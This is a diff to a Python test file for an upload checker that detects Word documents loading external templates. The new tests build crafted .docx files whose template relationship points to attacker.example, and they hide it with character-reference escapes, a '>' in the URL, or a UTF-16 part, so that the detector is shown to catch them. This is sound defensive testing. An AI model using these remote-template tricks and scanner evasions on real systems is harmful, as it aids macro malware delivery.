@@ -70,6 +70,34 @@ def with_relationship(data: bytes, part: str, kind: str, target: str) -> bytes:
     return output.getvalue()
 
 
+def _rewrite(data: bytes, change) -> bytes:
+    source = zipfile.ZipFile(io.BytesIO(data))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
+        for item in source.infolist():
+            archive.writestr(item, change(item.filename, source.read(item.filename)))
+    return output.getvalue()
+
+
+def _replace_in(data: bytes, old: bytes, new: str) -> bytes:
+    return _rewrite(
+        data,
+        lambda name, content: (
+            content.replace(old, f'"{new}"'.encode()) if name.endswith(".rels") else content
+        ),
+    )
+
+
+def _utf16_rels(data: bytes, part: str) -> bytes:
+    def change(name: str, content: bytes) -> bytes:
+        if name != part:
+            return content
+        text = content.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
+        return text.encode("utf-16")
+
+    return _rewrite(data, change)
+
+
 @pytest.fixture
 def secret(tmp_path: Path) -> Path:
     path = tmp_path / "secret.txt"
@@ -263,6 +291,27 @@ class TemplateUploadTests(BaseTestCase):
             "https://dichvucong.gov.vn/",
         )
         assert not fetches_external(io.BytesIO(link))
+        # A review's escapes: a character reference, a ">" in the address, a UTF-16 part.
+        attached = (
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+        )
+        for target, mode in (
+            ("http://attacker.example/m.dotm", "&#69;xternal"),
+            ("http://attacker.example/m.dotm?a=>", "External"),
+        ):
+            crafted = with_relationship(
+                tiny_docx("x"), "word/_rels/settings.xml.rels", attached, target
+            )
+            crafted = crafted if mode == "External" else _replace_in(crafted, b'"External"', mode)
+            assert fetches_external(io.BytesIO(crafted)), (target, mode)
+        utf16 = _utf16_rels(hostile, "word/_rels/settings.xml.rels")
+        assert fetches_external(io.BytesIO(utf16))
+        # A template on the author's own disk, as Word writes it for any document made from
+        # one: kept.
+        local = with_relationship(
+            tiny_docx("x"), "word/_rels/settings.xml.rels", attached, "file:///C:/Users/a/Mau.dotx"
+        )
+        assert not fetches_external(io.BytesIO(local))
         from cchc.assessments.services.evidence import _check_office
 
         with pytest.raises(ValidationError):
